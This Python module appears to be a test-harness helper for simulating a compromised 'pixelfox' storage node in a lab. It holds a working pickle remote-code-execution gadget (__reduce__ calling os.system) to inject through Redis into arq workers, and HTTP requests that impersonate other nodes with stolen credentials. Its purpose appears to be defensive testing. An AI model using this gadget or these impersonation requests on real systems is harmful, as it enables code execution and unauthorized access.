"""What an attacker who owns a storage node can try with that node's own files.

Not imported by the tests: its text is run on the stolen lab host by the node's
own Python (``/opt/pixelfox/venv``), with the node's env file loaded, exactly
as a process of the node's account would. It reads one JSON order on stdin and
prints one JSON answer:

- ``{"redis": [[command, arg, ...], ...]}``: each command sent with the node's
  own ``PIXELFOX_REDIS_URL``; the answer lists ``{"ok": repr}`` or
  ``{"error": message}`` per command. An argument ``{"pickle": "<shell
  command>"}`` is replaced by a pickle that runs the command when unpickled:
  arq's default serializer would execute it.
- ``{"http": {"method", "url", "as_node", "json", "content", "content_file",
  "extra_bytes", "params", "headers"}}``: one request; ``as_node`` names whose
  node id goes into the node authorization header, always with this node's own
  credential (a ``headers`` Authorization replaces it); ``content_file`` sends
  a file of this node's disk, with ``extra_bytes`` more bytes after it. The
  answer is the status and the body.
"""

from __future__ import annotations

import json
import os
import pickle
import sys
from typing import Any

import httpx
import redis


class _Shell:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, (self.command,))


def _argument(value: Any) -> Any:
    if isinstance(value, dict) and "pickle" in value:
        return pickle.dumps(_Shell(value["pickle"]))
    return value


def _verify() -> str | bool:
    return os.environ.get("PIXELFOX_CA_FILE") or True


def run_redis(commands: list[list[Any]]) -> list[dict[str, str]]:
    url = os.environ["PIXELFOX_REDIS_URL"]
    options: dict[str, Any] = {"socket_timeout": 10}
    if url.startswith("rediss://") and os.environ.get("PIXELFOX_CA_FILE"):
        options["ssl_ca_certs"] = os.environ["PIXELFOX_CA_FILE"]
    client = redis.Redis.from_url(url, **options)
    answers: list[dict[str, str]] = []
    for command in commands:
        try:
            answers.append({"ok": repr(client.execute_command(*map(_argument, command)))})
        except redis.RedisError as exc:
            answers.append({"error": f"{type(exc).__name__}: {exc}"})
    return answers


def run_http(order: dict[str, Any]) -> dict[str, Any]:
    node = order.get("as_node") or os.environ["PIXELFOX_NODE_ID"]
    credential = os.environ["PIXELFOX_NODE_CREDENTIAL"]
    headers = {"Authorization": f"Node {node}:{credential}", **order.get("headers", {})}
    if order.get("no_auth"):
        headers.pop("Authorization")
    content: bytes | None = None
    if "content_file" in order:
        with open(order["content_file"], "rb") as file:
            content = file.read() + b"x" * int(order.get("extra_bytes", 0))
    elif "content" in order:
        content = order["content"].encode("latin-1")
    response = httpx.request(
        order["method"],
        order["url"],
        headers=headers,
        params=order.get("params"),
        json=order.get("json"),
        content=content,
        verify=_verify(),
        timeout=30,
    )
    return {"status": response.status_code, "body": response.text[:4000]}


def main() -> None:
    order = json.load(sys.stdin)
    if "redis" in order:
        answer: Any = run_redis(order["redis"])
    else:
        answer = run_http(order["http"])
    print(json.dumps(answer))


if __name__ == "__main__":
    main()
